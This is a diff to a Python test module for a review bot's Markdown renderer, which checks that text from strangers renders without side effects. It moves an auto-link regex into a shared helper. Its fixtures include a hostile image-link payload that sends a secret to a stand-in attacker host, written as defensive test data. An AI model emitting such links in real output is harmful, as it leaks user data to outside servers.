@@ -1,7 +1,6 @@
 """Whatever a stranger writes, our Markdown shows it and does nothing else."""
 
 import html
-import re
 from collections.abc import Iterator
 
 import pytest
@@ -13,13 +12,9 @@ from markdown_it.token import Token
 from bot.review import markdown
 from bot.review.change import Side
 from bot.review.findings import Location
+from tests.support.automatic_links import AUTOMATIC
 
 RENDERER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
-# What GitHub turns into links and mentions after rendering, in text that is no code.
-AUTOMATIC = re.compile(
-    r"(?<!\w)@[a-z0-9]|#\d|\bGH-\d|\bwww\.|(?:https?|ftp)://|[\w.+-]+@[\w-]+\.\w|(?:mailto|xmpp):\S+@\w",
-    re.IGNORECASE,
-)
 ALLOWED = {"paragraph_open", "paragraph_close", "inline", "text", "code_inline", "softbreak"}
 HOSTILE = (
     "![x](https://evil.example/?q=secret)",
